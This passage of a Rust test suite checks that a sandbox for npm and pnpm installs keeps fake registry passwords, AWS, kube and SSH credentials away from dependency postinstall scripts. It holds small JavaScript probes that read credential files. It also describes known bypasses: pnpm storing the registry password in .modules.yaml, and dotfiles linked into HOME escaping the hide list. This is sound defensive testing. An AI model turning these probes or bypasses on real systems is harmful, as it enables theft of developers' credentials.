    fs::write(app.join(".yarnrc.yml"), "npmAuthToken: EYES16-YARNRC\n").unwrap();
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "block",
        &app,
        &deps(&["pw-rootrc"]),
        "pw-rootrc",
        &[],
    );
    assert!(!result.is_null(), "pw-rootrc did not run\n{}", r.stderr);
    assert_ne!(result["app"], "ok", "the control was read");
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    let read: Vec<&str> = ["root", "yarnrc"]
        .into_iter()
        .filter(|k| result[*k] == "ok")
        .collect();
    assert!(
        read.is_empty(),
        "read {read:?} (the root's .npmrc, the package's .yarnrc.yml); exit {}; serious findings {said:?}",
        r.code
    );
}

/// Class 10 (credentials read by package code) through a file the manager
/// writes: pnpm keeps its registries in `node_modules/.modules.yaml`, the
/// userinfo of a registry URL included (`registry=http://user:password@…`
/// in `~/.npmrc`, hidden from package code; the same URL given with
/// `--registry`). npm's lockfile and yarn 1's keep no password (measured:
/// only pnpm's file has it). The first `pnpm install` (a clean package)
/// writes the file; a later install's dependency postinstall reads the
/// password there, in block.
#[test]
#[ignore = "round 16: pnpm writes the registry URL's password into node_modules/.modules.yaml, which a later install's package code reads in block"]
fn pnpms_modules_yaml_does_not_hand_out_the_registry_password() {
    use support::probes::{deps, probe};
    let body = r#"
// pnpm runs the script in `node_modules/.pnpm/<pkg>@<v>/node_modules/<pkg>`:
// the project's `node_modules/.modules.yaml` is above.
let d = process.cwd(), found = null;
for (let i = 0; i < 8 && !found; i++, d = path.dirname(d)) {
  for (const c of [path.join(d, ".modules.yaml"), path.join(d, "node_modules", ".modules.yaml")]) {
    if (!found && fs.existsSync(c)) found = c;
  }
}
t("modules", () => { if (!fs.readFileSync(found || "/nonexistent", "utf8").includes("EYES16-PNPMPW")) throw new Error("other"); });
t("npmrc", () => fs.readFileSync(path.join(home, ".npmrc"), "utf8"));
"#;
    let registry = NpmRegistry::start_with(vec![marking("pw-clean16"), probe("pw-modyaml", body)]);
    let url = registry
        .registry_url()
        .replace("http://", "http://eyes16:EYES16-PNPMPW@");
    let env = ShimEnv::new(&[]);
    fs::write(env.home.path().join(".npmrc"), format!("registry={url}\n")).unwrap();
    let project = env.home.subdir("proj");
    let mut manifest = deps(&["pw-clean16"]);
    manifest["pnpm"] = serde_json::json!({"onlyBuiltDependencies": ["pw-modyaml"]});
    fs::write(project.join("package.json"), manifest.to_string()).unwrap();
    let first = support::installs::install(&env, "block", &["pnpm", "install"], &project, &[]);
    let yaml = fs::read_to_string(project.join("node_modules/.modules.yaml")).unwrap_or_default();
    assert!(
        yaml.contains("EYES16-PNPMPW"),
        "pnpm kept no password in .modules.yaml (exit {}): {yaml}",
        first.code
    );
    let mut manifest = deps(&["pw-clean16", "pw-modyaml"]);
    manifest["pnpm"] = serde_json::json!({"onlyBuiltDependencies": ["pw-modyaml"]});
    fs::write(project.join("package.json"), manifest.to_string()).unwrap();
    let r = support::installs::install(&env, "block", &["pnpm", "install"], &project, &[]);
    let result: Value = fs::read(project.join("node_modules/pw-modyaml/result.json"))
        .map(|b| serde_json::from_slice(&b).unwrap())
        .unwrap_or(Value::Null);
    assert!(!result.is_null(), "pw-modyaml did not run\n{}", r.stderr);
    assert_ne!(result["npmrc"], "ok", "the control was read");
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert_ne!(
        result["modules"], "ok",
        "node_modules/.modules.yaml gave the registry password; exit {}; serious findings {said:?}",
        r.code
    );
}

/// Stores a manager reads (`home_readable`) kept in a dotfiles repository
/// and linked into HOME (GNU Stow, dotbot, rcm make these links): the
/// link's name, its target.
const LINKED_HOME_STORES: &[(&str, &str)] = &[
    (".npmrc", "dotfiles/npm/.npmrc"),
    (".netrc", "dotfiles/netrc/.netrc"),
    (".config/pip/pip.conf", "dotfiles/pip/pip.conf"),
    (".config/pypoetry/auth.toml", "dotfiles/poetry/auth.toml"),
    // `home_hidden` stores whose files are links into the repository (stow
    // links files inside a directory that already exists: `~/.aws` made by
    // the AWS CLI, `~/.kube` by kubectl).
    (".aws/credentials", "dotfiles/aws/credentials"),
    (".kube/config", "dotfiles/kube/config"),
];

/// Class 10, bypass 2's mechanism for HOME's stores: package code's hide
/// list (`home_readable`: `~/.npmrc`, `~/.netrc`, pip's and poetry's
/// files) is not resolved to the links' targets, and the grants take a
/// link's target where it lies; inside a hidden directory (`~/.aws`,
/// `~/.kube`), a file that is a link is followed through it (landlock
/// does not restrict walking a path) to a target granted where it lies.
/// A dependency's postinstall reads them through their HOME names, in
/// block: `~/.npmrc` (npm's own, hidden from package code only),
/// `~/.aws/credentials`, `~/.kube/config`; `~/.netrc`, pip's and poetry's
/// files held (other managers' stores: in the install's own hidden list,
/// which is resolved). Control: `~/.ssh/id_ed25519`, a plain file, is
/// refused.
#[test]
fn the_managers_stores_are_hidden_when_they_are_links() {
    use support::probes::{deps, probe};
    let mut rels: Vec<&str> = LINKED_HOME_STORES.iter().map(|(l, _)| *l).collect();
    rels.push(".ssh/id_ed25519");
    let body = reads_body("home", &rels, "EYES16-DOTFILE");
    let registry = NpmRegistry::start_with(vec![probe("pw-dotfiles", &body)]);
    let env = ShimEnv::new(&[]);
    let home = env.home.path().to_path_buf();
    for (link, target) in LINKED_HOME_STORES {
        let t = home.join(target);
        fs::create_dir_all(t.parent().unwrap()).unwrap();
        fs::write(&t, "//127.0.0.1:9/:_authToken=EYES16-DOTFILE\n").unwrap();
        let l = home.join(link);
        fs::create_dir_all(l.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(&t, &l).unwrap();
    }
    fs::create_dir_all(home.join(".ssh")).unwrap();
    fs::write(home.join(".ssh/id_ed25519"), "EYES16-DOTFILE\n").unwrap();
    let project = env.home.subdir("proj");
    let (r, result) = npm_install_with(
        &env,
        &registry,
        "block",
        &project,
        &deps(&["pw-dotfiles"]),
        "pw-dotfiles",
        &[],
    );
    assert!(!result.is_null(), "pw-dotfiles did not run\n{}", r.stderr);
    assert_ne!(result[".ssh/id_ed25519"], "ok", "the control was read");
    let read: Vec<&str> = rels[..rels.len() - 1]
        .iter()
        .copied()
        .filter(|f| result[*f] == "ok")
        .collect();
    let said: Vec<String> = r.serious().iter().map(|f| f["title"].to_string()).collect();
    assert!(
        read.is_empty(),
        "read {read:?}; exit {}; serious findings {said:?}",
        r.code
    );
}
